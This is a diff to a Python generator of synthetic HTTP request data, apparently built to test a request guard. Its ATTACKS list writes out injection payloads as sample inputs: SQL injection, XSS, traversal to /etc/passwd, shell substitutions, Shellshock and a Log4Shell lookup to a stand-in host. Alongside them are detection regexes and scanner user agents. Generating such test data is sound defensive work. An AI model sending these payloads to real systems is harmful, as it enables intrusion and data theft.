@@ -102,14 +102,12 @@ PATHS = [
     "/shop?utm_source=news&utm_medium=mail&utm_campaign=summer_{k}", "/cart?item={n}&qty={k}",
     "/users?ids={n},{n},{n}", "/a%20b/c%2Fd", "/t/{trace}",
 ]  # fmt: skip
+_WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
 AGENTS = [
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-    "Chrome/{chrome} Safari/537.36",
-    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-    "Version/17.{k} Safari/605.1.15",
+    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {_WEBKIT} Chrome/{{chrome}} Safari/537.36",
+    f"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) {_WEBKIT} Version/17.{{k}} Safari/605.1.15",
     "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:12{k}.0) Gecko/20100101 Firefox/12{k}.0",
-    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{k} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
-    "Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
+    f"Mozilla/5.0 (iPhone; CPU iPhone OS 17_{{k}} like Mac OS X) {_WEBKIT} Mobile/15E148",
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
     "curl/8.{k}.1", "python-requests/2.3{k}.0", "Go-http-client/1.1", "okhttp/4.{k}.0",
     "sqlmap/1.7.{k}#stable (https://sqlmap.org)", "Nmap Scripting Engine", "Wget/1.21.{k}",
@@ -119,9 +117,9 @@ AGENTS = [
 ATTACKS = [
     "' OR '1'='1' --", "1 UNION SELECT null, version(), user()--", "<script>alert({k})</script>",
     "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "; cat /etc/hosts", "$(id)",
-    "{{{{7*7}}}}", "${{jndi:ldap://evil.example/a}}", "\"><img src=x onerror=alert({k})>",
+    "{{{{7*7}}}}", "${{jndi:ldap://evil.example/a}}", '"><img src=x onerror=alert({k})>',
     "admin'/*", "sleep(5)#", "%00", "php://filter/convert.base64-encode/resource=index.php",
-    "file:///etc/passwd", "() {{ :; }}; echo vulnerable", "{{\"$ne\": null}}",
+    "file:///etc/passwd", "() {{ :; }}; echo vulnerable", '{{"$ne": null}}',
     "SELECT * FROM users WHERE name = 'x' AND 1=1", "\\x3cscript\\x3e", "%3Csvg%20onload%3D1%3E",
 ]  # fmt: skip
 KEYS = [
@@ -139,6 +137,7 @@ KEYS = [
     ("isbn", "978-3-16-1484{k}-0"), ("vat", "DE{n}{n}"), ("guard.rule", "{rule}"),
     ("guard.path", "{path}"), ("guard.pattern", "{pattern}"), ("cookies_enabled", "true"),
     ("tokens_left", "{n}"), ("passed_checks", "ip,agent,rate"), ("code", "{k}"), ("state", "open"),
+    ("snowflake", "1{digits11}{digits6}"), ("nanoseconds", "17{digits11}{digits6}"),
     ("hash_algorithm", "argon2id"), ("signature_algorithm", "RS256"), ("key_size", "2048"),
 ]  # fmt: skip
 HEADERS = [
@@ -150,7 +149,8 @@ HEADERS = [
     ("if-none-match", '"{md5}"'), ("if-modified-since", "Mon, 05 Jan 2026 10:0{k}:00 GMT"),
     ("cache-control", "max-age=0"), ("sec-ch-ua", '"Chromium";v="12{k}", "Not_A Brand";v="8"'),
     ("sec-fetch-site", "same-origin"), ("origin", "https://{host}"), ("dnt", "1"),
-    ("user-agent", "{agent}"), ("cf-ray", "{span}-FRA"), ("x-amzn-trace-id", "Root=1-{hex8}-{sha1}"),
+    ("user-agent", "{agent}"), ("cf-ray", "{span}-FRA"), ("dnt", "1"),
+    ("x-amzn-trace-id", "Root=1-{hex8}-{sha1}"),
     ("strict-transport-security", "max-age=31536000; includeSubDomains"), ("via", "1.1 varnish"),
     ("www-authenticate", 'Bearer realm="api", error="invalid_token"'), ("te", "trailers"),
 ]  # fmt: skip
@@ -244,21 +244,34 @@ PARTS: dict[str, Callable[[Corpus], object]] = {
     "n": lambda c: c.number(10, 99_999),
     "k": lambda c: c.number(1, 9),
     "digits11": lambda c: f"{c.number(0, 10**11 - 1):011d}",
+    "digits6": lambda c: f"{c.number(0, 10**6 - 1):06d}",
     "host": lambda c: c.pick(["shop.example.com", "api.example.org", "www.example.net"]),
     "country": lambda c: c.pick(["KP", "RU", "BR"]),
     "path": lambda c: c.fill(c.pick(PATHS)),
     "agent": lambda c: c.fill(c.pick(AGENTS)),
     "attack": lambda c: c.fill(c.pick(ATTACKS)),
-    "pattern": lambda c: c.pick([r"(?i)union\s+select", r"<script[^>]*>", r"\.\./", r"\betc/passwd"]),
+    "pattern": lambda c: c.pick(
+        [r"(?i)union\s+select", r"<script[^>]*>", r"\.\./", r"\betc/passwd"]
+    ),
     "rule": lambda c: c.pick([f"94{c.number(1000, 9999)}", "block-scanners", "vip_only", "R-17"]),
     "order": lambda c: c.pick(
-        [f"{c.number(10**6, 10**10)}", f"2026-{c.number(10**5, 10**6)}", f"SO{c.number(10**7, 10**8)}"]
+        [
+            f"{c.number(10**6, 10**10)}",
+            f"2026-{c.number(10**5, 10**6)}",
+            f"SO{c.number(10**7, 10**8)}",
+        ]
     ),
     "phone": lambda c: c.pick(
-        [f"+49 30 {c.number(10**6, 10**7)}", f"+1-555-{c.number(100, 999)}-{c.number(1000, 9999)}",
-         f"0171/{c.number(10**6, 10**7)}", f"(0)20 7946 0{c.number(100, 999)}"]
+        [
+            f"+49 30 {c.number(10**6, 10**7)}",
+            f"+1-555-{c.number(100, 999)}-{c.number(1000, 9999)}",
+            f"0171/{c.number(10**6, 10**7)}",
+            f"(0)20 7946 0{c.number(100, 999)}",
+        ]
     ),
-    "parcel": lambda c: c.pick([f"1Z{c.hex(6).upper()}{c.number(10**9, 10**10)}", f"RR{c.number(10**8, 10**9)}DE"]),
+    "parcel": lambda c: c.pick(
+        [f"1Z{c.hex(6).upper()}{c.number(10**9, 10**10)}", f"RR{c.number(10**8, 10**9)}DE"]
+    ),
     "chrome": lambda c: c.pick(["120.0.0.0", f"12{c.number(0, 9)}.0.6{c.number(100, 999)}.109"]),
     "uuid": lambda c: str(uuid.UUID(int=int(c.hex(32), 16), version=4)),
     "trace": lambda c: c.hex(32),
@@ -270,4 +283,4 @@ PARTS: dict[str, Callable[[Corpus], object]] = {
     "mac": lambda c: ":".join(c.hex(2) for _ in range(6)),
     "date": lambda c: c.moment()[:10],
     "time": lambda c: c.moment(),
-}  # fmt: skip
+}
